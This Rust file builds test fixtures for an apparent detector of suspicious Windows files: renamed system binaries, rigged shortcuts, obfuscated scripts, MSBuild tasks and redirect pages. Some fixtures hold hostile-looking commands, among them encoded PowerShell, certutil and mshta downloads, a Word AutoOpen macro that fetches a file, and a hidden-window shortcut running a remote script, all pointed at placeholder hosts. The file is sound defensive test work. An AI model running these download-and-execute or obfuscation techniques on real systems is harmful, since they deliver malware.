//! Fixtures of programs, shortcuts, scripts and build projects. Harmless: hosts that cannot exist, programs without code.

use crate::build::{attachment, docm, mail, module, zip};
use crate::fixtures::Fixture;

/// All of them.
pub(crate) fn all() -> Vec<Fixture> {
    let mut all = programs();
    all.extend(shortcuts());
    all.extend(scripts());
    all.extend(copies());
    all.extend(commands());
    all.extend(projects());
    all.extend(pages());
    all
}

fn lines(text: &str) -> Vec<u8> {
    text.replace('\n', "\r\n").into_bytes()
}

fn wide(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

/// A structure of version information: length, length of the value, type, key, value, children.
fn node(key: &str, text: Option<&str>, children: &[Vec<u8>]) -> Vec<u8> {
    let value = text
        .map(|text| wide(&format!("{text}\0")))
        .unwrap_or_default();
    let mut out = vec![0, 0];
    out.extend(u16::try_from(value.len() / 2).unwrap().to_le_bytes());
    out.extend([1, 0]);
    out.extend(wide(&format!("{key}\0")));
    out.resize(out.len().next_multiple_of(4), 0);
    out.extend(value);
    for child in children {
        out.resize(out.len().next_multiple_of(4), 0);
        out.extend(child);
    }
    let len = u16::try_from(out.len()).unwrap().to_le_bytes();
    out[..2].copy_from_slice(&len);
    out
}

/// A program without code whose version information gives it a name.
pub(crate) fn program_called(original: &str, internal: &str) -> Vec<u8> {
    const RESOURCES: u32 = 0x2000;
    let strings = [
        node("CompanyName", Some("Example"), &[]),
        node("InternalName", Some(internal), &[]),
        node("OriginalFilename", Some(original), &[]),
        node("ProductName", Some("Example"), &[]),
    ];
    let version = node(
        "VS_VERSION_INFO",
        None,
        &[node(
            "StringFileInfo",
            None,
            &[node("040904B0", None, &strings)],
        )],
    );
    let mut section = Vec::new();
    // Three directories of one entry each (type 16, name 1, language 0x409), then the data entry.
    for (id, next) in [(16u32, 0x8000_0018u32), (1, 0x8000_0030), (0x409, 0x48)] {
        section.extend([0; 14]);
        section.extend([1, 0]);
        section.extend(id.to_le_bytes());
        section.extend(next.to_le_bytes());
    }
    section.extend((RESOURCES + 0x58).to_le_bytes());
    section.extend(u32::try_from(version.len()).unwrap().to_le_bytes());
    section.extend([0; 8]);
    section.extend(version);
    let len = u32::try_from(section.len()).unwrap();
    let mut out = crate::build::program();
    // A second section, and the third data directory that leads to it.
    out[0x86] = 2;
    out[0x98 + 96 + 16..0x98 + 96 + 20].copy_from_slice(&RESOURCES.to_le_bytes());
    out[0x98 + 96 + 20..0x98 + 96 + 24].copy_from_slice(&len.to_le_bytes());
    let header = 0x178 + 40;
    out[header..header + 5].copy_from_slice(b".rsrc");
    for (at, number) in [(8, len), (12, RESOURCES), (16, len), (20, 0x400)] {
        out[header + at..header + at + 4].copy_from_slice(&number.to_le_bytes());
    }
    out.resize(0x400, 0);
    out.extend(section);
    out
}

fn programs() -> Vec<Fixture> {
    let copied = "@echo off\ncopy %windir%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe %TEMP%\\notes.exe\n";
    let kept = "@echo off\nrem copy powershell.exe notes.exe\ncopy %windir%\\System32\\cmd.exe D:\\rescue\\\ncopy report.xls backup.xls\n";
    let own = zip(&[
        (
            "tools/powershell.exe",
            &program_called("PowerShell.EXE.MUI", "POWERSHELL"),
        ),
        ("viewer.exe", &program_called("viewer.exe", "viewer")),
    ]);
    vec![
        (
            "findings/renamed-system-binary/hit.exe",
            program_called("PowerShell.EXE.MUI", "POWERSHELL"),
        ),
        ("findings/renamed-system-binary/hit.bat", lines(copied)),
        (
            "findings/renamed-system-binary/miss.exe",
            program_called("viewer.exe", "viewer"),
        ),
        ("findings/renamed-system-binary/miss.bat", lines(kept)),
        ("findings/renamed-system-binary/miss.zip", own),
    ]
}

/// A shortcut: target by its environment block and relative path, arguments.
pub(crate) fn shortcut(target: &str, arguments: &str) -> Vec<u8> {
    let mut out = b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46".to_vec();
    // Relative path, arguments, Unicode, environment block.
    out.extend((8u32 | 32 | 128 | 512).to_le_bytes());
    out.resize(0x4c, 0);
    out[60] = 1;
    for text in [format!("..\\{target}"), arguments.to_owned()] {
        out.extend(
            u16::try_from(text.encode_utf16().count())
                .unwrap()
                .to_le_bytes(),
        );
        out.extend(wide(&text));
    }
    let mut block = vec![0; 0x314];
    block[..4].copy_from_slice(&0x314u32.to_le_bytes());
    block[4..8].copy_from_slice(&0xa000_0001u32.to_le_bytes());
    block[8..8 + target.len()].copy_from_slice(target.as_bytes());
    let path = wide(target);
    block[268..268 + path.len()].copy_from_slice(&path);
    out.extend(block);
    out.extend([0; 4]);
    out
}

fn shortcuts() -> Vec<Fixture> {
    let padded = format!("{}plan.txt", " ".repeat(180));
    let mut appended = shortcut("%windir%\\notepad.exe", "plan.txt");
    appended.extend(crate::build::program());
    let hidden = shortcut(
        "%windir%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "-w hidden -File \\\\files.example.invalid\\a.ps1",
    );
    let text = "The shortcut report.lnk starts C:\\Windows\\System32\\cmd.exe /c dir.\n";
    vec![
        (
            "findings/shortcut-lnk/hit.lnk",
            shortcut("%windir%\\notepad.exe", "C:\\plan.txt"),
        ),
        (
            "findings/shortcut-lnk/hit.interpreter-target.lnk",
            shortcut("%ComSpec%", "/c start calc.exe"),
        ),
        (
            "findings/shortcut-lnk/hit.padded-arguments.lnk",
            shortcut("%windir%\\notepad.exe", &padded),
        ),
        (
            "findings/shortcut-lnk/hit.remote-program.lnk",
            shortcut("\\\\198.51.100.7\\share\\setup.exe", ""),
        ),
        ("findings/shortcut-lnk/hit.appended-payload.lnk", appended),
        ("findings/shortcut-lnk/miss.txt", lines(text)),
        ("findings/powershell-command/hit.hidden-window.lnk", hidden),
    ]
}

const MINIFIED: &str = "!function(e,t){\"use strict\";var n=String.fromCharCode(13,10),r=\"a\"+n+\"b\";e.plan={get:function(i){return i?r.split(n).reverse().join(\"\"):t},set:function(i,o){for(var u=0;u<i.length;u++)o.push(i[u]);return o}}}(this,void 0);\nvar h='<table>'+'<tr><td>'+'a long piece of a page'+'</td></tr>'+'</table>';\n";

const PACKED: &str = "eval(function(p,a,c,k,e,d){while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+c+'\\\\b','g'),k[c]);return p}('0.1(2)',3,3,'console|log|total'.split('|'),0,{}))\n";

fn scripts() -> Vec<Fixture> {
    let plain = "'use strict';\nfunction total(list) {\n  var sum = 0;\n  for (var i = 0; i < list.length; i++) {\n    sum += list[i];\n  }\n  return sum;\n}\nmodule.exports = total;\n";
    let starts = "On Error Resume Next\nDim s\nSet s = CreateObject(\"WScript.Shell\")\ns.Run \"notepad.exe\", 1, False\n";
    let downloads = "param([string]$To)\n$c = New-Object System.Net.WebClient\n$c.DownloadFile('http://files.example.invalid/a.txt', $To)\nWrite-Host \"done $To\"\n";
    let decodes = "var a = String.fromCharCode(87,83,99,114,105,112,116,46,69,99,104,111,40,49,41);\neval(a);\neval(unescape('%57%53%63%72%69%70%74%2e%45%63%68%6f%28%32%29'));\n";
    let page = "<!DOCTYPE html>\n<html><head><title>Plan</title><script>\nvar s = new ActiveXObject(\"WScript.Shell\");\n</script></head><body>Plan</body></html>\n";
    let words = "Dear colleagues,\n\nplease do not open scripts such as update.vbs or run WScript.Shell commands that somebody sends you by mail.\nThey start programs on your computer.\n\nKind regards\n";
    let codes: Vec<String> = "the words of this text are of no meaning"
        .bytes()
        .map(|byte| byte.to_string())
        .collect();
    let scrambled = format!(
        "var t = String.fromCharCode({});\nWScript.Echo(t);\nfunction f(a) {{\n  return a.length;\n}}\n",
        codes.join(",")
    );
    let listed: Vec<String> = "CreateObject(\"WScript.Shell\").Run \"notepad.exe\""
        .bytes()
        .map(|byte| byte.to_string())
        .collect();
    let listed = format!(
        "For Each code In Split(\"{}\")\n  text = text & Chr(code)\nNext\nExecute text\n",
        listed.join(" ")
    );
    let carets = "@echo off\ns^e^t a=1\ne^c^h^o %a%\nt^i^m^e^o^u^t /t 1\n";
    let batch = "@echo off\nset day=%date:~0,4%%date:~5,2%%date:~8,2%\nxcopy D:\\data E:\\backup\\%day% ^\n  /s /d\nif %errorlevel% neq 0 echo failed\n";
    vec![
        ("findings/script/hit.js", lines(plain)),
        ("findings/script/hit.starts-process.vbs", lines(starts)),
        ("findings/script/hit.downloads.ps1", lines(downloads)),
        ("findings/script/hit.decodes-and-runs.js", lines(decodes)),
        // Told by the name alone: too short to be told by what stands in it.
        ("findings/script/hit-named.py", lines("print('hello')\n")),
        (
            "findings/script/hit-listed.starts-process.vbs",
            lines(&listed),
        ),
        ("findings/script/miss.html", lines(page)),
        ("findings/script/miss-named.txt", lines("print('hello')\n")),
        ("findings/script/miss.txt", lines(words)),
        ("findings/script-obfuscated/hit.js", lines(&scrambled)),
        ("findings/script-obfuscated/hit.bat", lines(carets)),
        ("findings/script-obfuscated/hit-packed.js", lines(PACKED)),
        ("findings/script-obfuscated/miss.js", lines(MINIFIED)),
        ("findings/script-obfuscated/miss.bat", lines(batch)),
    ]
}

const HOW_TO: &str = "Dear colleagues,\r\n\r\nsomebody may ask you to run one of these commands:\r\n\r\npowershell -enc VwByAGkAdABlAC0ASABvAHMAdAAgADEA\r\ncertutil -urlcache -split -f http://files.example.invalid/a.txt b.txt\r\nmshta http://files.example.invalid/a.hta\r\n\r\nPlease do not, and call the help desk.\r\n";

/// Tools of Windows that a script gives another name, or copies as they are called.
fn copies() -> Vec<Fixture> {
    let linked = "mklink D:\\public\\update.exe C:\\Windows\\System32\\mshta.exe\n";
    let method = "$tool = 'cert' + 'util.exe'\n[IO.File]::Copy('C:\\Windows\\System32\\cmd.exe', 'D:\\public\\update.exe')\n";
    let same = "Copy-Item C:\\Windows\\System32\\cmd.exe D:\\winpe\\cmd.exe\n[IO.File]::Copy('setup.exe', 'D:\\setup_2.exe')\n";
    vec![
        (
            "findings/renamed-system-binary/hit-linked.bat",
            lines(linked),
        ),
        (
            "findings/renamed-system-binary/hit-method.ps1",
            lines(method),
        ),
        (
            "findings/renamed-system-binary/miss-same-name.ps1",
            lines(same),
        ),
    ]
}

fn commands() -> Vec<Fixture> {
    let plain = "@echo off\npowershell -NoProfile -File inventory.ps1\nexit /b\n";
    let encoded = "@echo off\npowershell -nop -enc VwByAGkAdABlAC0ASABvAHMAdAAgADEA\nexit /b\n";
    let none = "@echo off\nrem powershell -enc VwByAGkAdABlAC0ASABvAHMAdAAgADEA\necho This needs powershell -File a.ps1 later\nmkdir powershell\n";
    let downloads = "Sub AutoOpen()\n    Dim s\n    s = \"powershell -c \"\"Invoke-\" & \"WebRequest http://files.example.invalid/a.txt -OutFile a.txt\"\"\"\n    Shell s, 1\nEnd Sub\n";
    let fetched = "@echo off\nset t=certutil\n%t% -urlcache -split -f http://files.example.invalid/a.txt b.txt\nexit /b\n";
    let shown = "@echo off\ncertutil -dump branch.cer\nmsiexec /i setup.msi /qb\nrem certutil -urlcache -f http://x y\necho use mshta http://files.example.invalid/\n";
    let body = [crate::build::Part {
        headers: "Content-Type: text/plain; charset=us-ascii",
        body: HOW_TO.as_bytes().to_vec(),
    }];
    let page = format!("<html><body><h1>How to</h1><pre>{HOW_TO}</pre></body></html>");
    vec![
        ("findings/powershell-command/hit.bat", lines(plain)),
        (
            "findings/powershell-command/hit.encoded.bat",
            lines(encoded),
        ),
        (
            "findings/powershell-command/hit.downloads.docm",
            docm("Report", &[("Module1", module("Module1", downloads))]),
        ),
        ("findings/powershell-command/miss.bat", lines(none)),
        (
            "findings/powershell-command/miss.eml",
            mail("A warning", &body),
        ),
        ("findings/lolbin-command/hit.bat", lines(fetched)),
        ("findings/lolbin-command/miss.bat", lines(shown)),
        ("findings/lolbin-command/miss.eml", mail("A warning", &body)),
        ("findings/lolbin-command/miss.html", page.into_bytes()),
    ]
}

fn projects() -> Vec<Fixture> {
    let inline = "<?xml version=\"1.0\" encoding=\"utf-16\"?>\n<Project ToolsVersion=\"4.0\" xmlns=\"http://schemas.microsoft.com/developer/msbuild/2003\">\n  <Target Name=\"Build\"><Say /></Target>\n  <UsingTask TaskName=\"Say\" TaskFactory=\"CodeTaskFactory\" AssemblyFile=\"C:\\Windows\\Microsoft.Net\\Framework\\v4.0.30319\\Microsoft.Build.Tasks.v4.0.dll\">\n    <Task><Code Type=\"Fragment\" Language=\"cs\"><![CDATA[ Log.LogMessage(\"hello\"); ]]></Code></Task>\n  </UsingTask>\n</Project>\n";
    let mut utf16 = vec![0xff, 0xfe];
    utf16.extend(wide(&inline.replace('\n', "\r\n")));
    let task = "<Project Sdk=\"Microsoft.NET.Sdk\">\n  <PropertyGroup>\n    <TargetFramework>net8.0</TargetFramework>\n    <Out>$([System.IO.Path]::Combine('a', 'b'))</Out>\n  </PropertyGroup>\n  <UsingTask TaskName=\"Stamp\" AssemblyFile=\"tools\\Stamp.dll\" />\n  <ItemGroup><Compile Include=\"a.cs\" /></ItemGroup>\n</Project>\n";
    let event = "<Project Sdk=\"Microsoft.NET.Sdk\">\n  <PropertyGroup>\n    <PostBuildEvent>xcopy /y &quot;$(TargetPath)&quot; ..\\out</PostBuildEvent>\n  </PropertyGroup>\n</Project>\n";
    let interpreter = "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<Project DefaultTargets=\"Build\" xmlns=\"http://schemas.microsoft.com/developer/msbuild/2003\">\n  <ItemDefinitionGroup>\n    <PreBuildEvent>\n      <Command>cmd /c powershell -File setup.ps1</Command>\n    </PreBuildEvent>\n  </ItemDefinitionGroup>\n</Project>\n";
    let described = "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<Project xmlns=\"http://schemas.microsoft.com/developer/msbuild/2003\">\n  <UsingTask TaskName=\"Pack\" TaskFactory=\"XamlTaskFactory\" AssemblyName=\"Microsoft.Build.Tasks.v4.0\">\n    <Task>$(MSBuildThisFileDirectory)$(MSBuildThisFileName).xml</Task>\n  </UsingTask>\n</Project>\n";
    vec![
        ("findings/msbuild-inline-task/hit.csproj", utf16),
        (
            "findings/msbuild-inline-task/hit.description.targets",
            lines(described),
        ),
        ("findings/msbuild-inline-task/miss.csproj", lines(task)),
        ("findings/msbuild-build-event/hit.csproj", lines(event)),
        (
            "findings/msbuild-build-event/hit.interpreter.vcxproj",
            lines(interpreter),
        ),
        ("findings/msbuild-build-event/miss.csproj", lines(task)),
    ]
}

fn pages() -> Vec<Fixture> {
    let with = "<!DOCTYPE html>\n<html><head><title>Plan</title>\n<script>document.title = 'Plan';</script></head><body>Plan</body></html>\n";
    let without = "<!DOCTYPE html>\n<html><head><title>Script</title>\n<script type=\"application/ld+json\">{\"a\": 1}</script></head><body>The script of the play.</body></html>\n";
    let sent = mail(
        "Plan",
        &[attachment(
            "Content-Type: text/html; name=\"plan.html\"\nContent-Disposition: attachment; filename=\"plan.html\"\nContent-Transfer-Encoding: base64",
            with.as_bytes(),
        )],
    );
    let away = "<!DOCTYPE html>\n<html><head><title>Invoice</title></head><body>Please wait.<script>location.href = atob('aHR0cHM6Ly9sb2dpbi5leGFtcGxlLmludmFsaWQv');</script></body></html>\n";
    let refresh = "<!DOCTYPE html>\n<html><head><meta http-equiv=\"refresh\" content=\"0; url=https://www.example.com/new/\"></head><body></body></html>\n";
    let moved = "<!DOCTYPE html>\n<html><head><meta http-equiv=\"refresh\" content=\"0; url=new.html\"></head><body><a href=\"new.html\">This page has moved.</a></body></html>\n";
    vec![
        (
            "findings/html-script/hit-decoded.leads-away.html",
            lines(away),
        ),
        (
            "findings/html-script/hit-refresh.leads-away.html",
            lines(refresh),
        ),
        (
            "findings/html-script/hit.link-page.zip",
            zip(&[("index.html", lines(refresh).as_slice())]),
        ),
        ("findings/html-script/miss-moved.html", lines(moved)),
        ("findings/html-script/hit.html", lines(with)),
        ("findings/html-script/hit.eml", sent),
        ("findings/html-script/miss.html", lines(without)),
    ]
}
